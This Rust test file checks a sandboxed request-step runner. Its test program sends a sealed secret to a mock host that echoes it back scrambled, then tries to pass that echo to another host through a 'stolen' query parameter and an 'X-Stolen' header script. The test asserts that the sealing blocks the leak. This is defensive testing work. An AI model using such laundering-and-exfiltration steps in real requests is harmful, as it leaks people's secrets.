//! A host that may get a sealed value remembers it, and says it in a later answer in a form that nobody can find.

use std::sync::{Arc, Mutex};

use serde_json::{Value, json};
use tacit_proofs::{Program, World, stored};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpListener,
};

use crate::{SANDBOX, received};

const VALUE: &str = "Zk8+Tw9+RuPqXy5+aLm3";

/// Answers with what `x-key` was last, every second character first.
async fn host() -> String {
    let listener = TcpListener::bind("127.0.0.1:0").await.expect("a port");
    let address = listener.local_addr().expect("an address");
    let last = Arc::new(Mutex::new(String::new()));
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            let last = Arc::clone(&last);
            tokio::spawn(async move {
                let mut request = [0; 4096];
                let length = stream.read(&mut request).await.unwrap_or_default();
                let text = String::from_utf8_lossy(&request[..length]).into_owned();
                let key = text.lines().find_map(|line| {
                    line.to_lowercase().starts_with("x-key:").then(|| line[6..].trim().to_owned())
                });
                if let Some(key) = key {
                    *last.lock().expect("nobody panics with it") = key;
                }
                let known = last.lock().expect("nobody panics with it").clone();
                let mixed: String =
                    known.chars().skip(1).step_by(2).chain(known.chars().step_by(2)).collect();
                let answer = format!(
                    "HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{mixed}",
                    mixed.len()
                );
                let _ = stream.write_all(answer.as_bytes()).await;
            });
        }
    });
    format!("http://{address}")
}

fn mixed() -> String {
    VALUE.chars().skip(1).step_by(2).chain(VALUE.chars().step_by(2)).collect()
}

async fn run(sealed: bool) -> (String, String) {
    let (host, mut world) = (host().await, World::new(SANDBOX).await.with("key", VALUE));
    if sealed {
        world.seal("key", &[&host]);
    }
    let get = |url: &str, more: Value| {
        let mut step = json!({"step_type": "request", "method": "GET", "url": url});
        step.as_object_mut().expect("an object").extend(more.as_object().expect("an object").clone());
        step
    };
    let steps = json!([
        get(&host, json!({"headers": {"X-Key": ["{{get_secret(key)}}"]}})),
        get(&host, json!({"variables": [{"name": "later", "source": "response_text"}]})),
        get("{elsewhere}/echo?stolen={{later}}", json!({})),
        get(
            "{elsewhere}/echo",
            json!({"before_scripts": ["request.headers['X-Stolen'] = variables.get('later')"]})
        ),
    ]);
    let run = world.run(&Program { steps, environment: json!({}) }).await;
    (stored(&run), received(&world.elsewhere, 0))
}

#[tokio::test(flavor = "multi_thread")]
async fn what_it_says_later_stays_with_it_and_out_of_results() {
    let (result, arrived) = run(true).await;
    let mixed = mixed();
    let encoded = mixed.replace('+', "%2B");
    for form in [&mixed, &encoded] {
        assert!(!arrived.contains(form.as_str()), "{arrived}");
        assert!(!result.contains(form.as_str()), "{result}");
    }
    assert!(result.contains("may not be sent to"), "{result}");
    // The control: of a plain secret both can be had.
    let (result, arrived) = run(false).await;
    assert!(arrived.contains(&encoded) || arrived.contains(&mixed), "{arrived}");
    assert!(result.contains(&mixed), "{result}");
}
